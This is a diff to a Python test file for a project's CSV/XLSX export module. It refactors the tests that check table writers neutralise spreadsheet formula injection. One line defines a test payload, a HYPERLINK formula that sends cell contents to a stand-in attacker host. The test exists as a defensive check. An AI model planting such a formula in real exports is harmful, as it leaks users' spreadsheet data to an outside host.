@@ -30,7 +30,7 @@ from openpyxl import load_workbook
 
 import critmat
 from critmat import exports
-from critmat.api import stats_export
+from critmat.services import statistics_models
 from critmat.web import tables
 
 FINDING = '\x01=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -144,7 +144,9 @@ def test_cells_that_are_not_text() -> None:
 
 def test_every_table_writer_goes_through_the_one_module() -> None:
     """The API tables, the web tables and the stress CSV file all neutralise the finding."""
-    api_table = stats_export.Table(["name", "amount"], [{"name": FINDING, "amount": -3.0}], "t")
+    api_table = statistics_models.table(
+        ["name", "amount"], [{"name": FINDING, "amount": -3.0}], "t"
+    )
     web_table = tables.Table(
         name="t",
         title=FINDING,
@@ -152,12 +154,12 @@ def test_every_table_writer_goes_through_the_one_module() -> None:
         rows=[{"name": FINDING, "v": -0.25}],
         source=FINDING,
     )
-    for body in (stats_export.to_xlsx(api_table), tables.to_xlsx(web_table)):
+    for body in (exports.to_xlsx(api_table), tables.to_xlsx(web_table)):
         cells = xlsx_cells(body)
         assert all(t != "f" for _v, t in cells)
         assert "'" + FINDING[1:] in [v for v, _t in cells]
         assert -3.0 in [v for v, _t in cells] or -0.25 in [v for v, _t in cells]
-    for body in (stats_export.to_csv(api_table), tables.to_csv(web_table)):
+    for body in (exports.to_csv(api_table), tables.to_csv(web_table)):
         assert csv_fields(body)[1][0] == "'" + FINDING[1:]
 
 
@@ -321,7 +323,7 @@ def _is_text(node: ast.AST) -> TypeGuard[ast.Constant]:
 
 
 def test_no_table_writer_outside_the_one_module() -> None:
-    """Every CSV/XLSX writer in src/ is critmat.exports: the API (stats_export), the web tables,
+    """Every CSV/XLSX writer in src/ is critmat.exports: the API's answers, the web tables,
     the reports, the stress command and the CLI's ``--format csv`` only call it."""
     offenders = {
         str(path.relative_to(SRC)): uses
@@ -340,12 +342,12 @@ def test_no_table_writer_outside_the_one_module() -> None:
 
 
 def test_adapters_write_what_the_one_module_writes() -> None:
-    """The API and web tables are adapters: their bytes are the one module's bytes."""
-    api_table = stats_export.Table(["a", "b"], [{"a": "=x", "b": -1.0}], "t", ["baci 1"])
-    assert stats_export.to_csv(api_table) == exports.to_csv(api_table.export())
-    body, media_type, _ = stats_export.table_download(api_table, "xlsx", "t")
+    """The API's answers carry an exports.Table; the web tables are adapters whose bytes are
+    the one module's bytes."""
+    api_table = statistics_models.table(["a", "b"], [{"a": "=x", "b": -1.0}], "t")
+    body, media_type, _ = exports.download(api_table, "xlsx", "t")
     assert media_type == exports.XLSX_MEDIA_TYPE
-    assert xlsx_cells(body) == xlsx_cells(exports.to_xlsx(api_table.export()))
+    assert ("'=x", "s") in xlsx_cells(body)
     web_table = tables.Table("t", "=t", [tables.Column("a", "a")], [{"a": "@x"}], "src", "2023")
     assert tables.encode(web_table, "csv") == exports.to_csv(web_table.export())
     assert json.loads(tables.encode(web_table, "json"))["rows"] == [["@x"]]
